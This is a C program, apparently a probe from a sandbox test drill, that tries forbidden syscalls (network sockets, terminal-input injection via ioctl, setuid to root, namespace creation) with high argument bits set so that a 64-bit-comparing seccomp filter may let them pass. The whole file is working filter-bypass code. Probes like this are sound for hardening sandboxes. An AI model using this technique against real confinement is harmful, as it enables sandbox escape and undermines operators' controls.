/* attack.c - kern-high-bits
 *
 * Makes forbidden calls with a bit set in the upper half of the argument that makes them forbidden. The kernel ignores
 * that half; a filter that compares all 64 bits sees a harmless stranger and lets it past. */
#define _GNU_SOURCE
#include <errno.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define HIGH (1UL << 32)

static int reached;

static void tried(const char *what, long result)
{
    int error = errno;

    printf("%s: %s\n", what, result < 0 ? strerrorname_np(error) : "done");
    if (result >= 0 || (error != EPERM && error != ENOSYS))
        reached = 10;
}

static void new_user_namespace(void)
{
    long child = syscall(SYS_clone, (HIGH << 8) | CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);

    if (child == 0)
        _exit(0);
    tried("a child in a user namespace", child);
    if (child > 0)
        (void)waitpid((pid_t)child, NULL, 0);
}

int main(void)
{
    struct rlimit core = {0, 0};
    int pair[2], bare = getenv("DRILL_CONTROL") != NULL;

    tried("a network socket", syscall(SYS_socket, HIGH | AF_INET, SOCK_STREAM, 0));
    tried("a network socket with other high bits", syscall(SYS_socket, (0xfeUL << 56) | AF_INET, SOCK_DGRAM, 0));
    tried("a netlink socket", syscall(SYS_socket, HIGH | AF_NETLINK, SOCK_RAW, 0));
    tried("a network pair", syscall(SYS_socketpair, HIGH | AF_INET, SOCK_STREAM, 0, pair));
    if (bare)
        return reached; /* the rest is of the same kind */
    tried("type into a terminal", syscall(SYS_ioctl, 0, HIGH | 0x5412, "x"));
    tried("paste into a console", syscall(SYS_ioctl, 0, HIGH | 0x541c, "\3"));
    tried("move its own memory's marks", syscall(SYS_prctl, HIGH | 35, 1, 0, 0, 0));
    tried("another core limit for process 1", syscall(SYS_prlimit64, HIGH | 1, RLIMIT_CORE, &core, NULL));
    tried("the priority of a user", syscall(SYS_setpriority, HIGH | PRIO_USER, 0, 1));
    tried("user 0", syscall(SYS_setuid, HIGH));
    tried("a name space for the host name", syscall(SYS_unshare, HIGH | CLONE_NEWUTS));
    new_user_namespace();
    return reached;
}
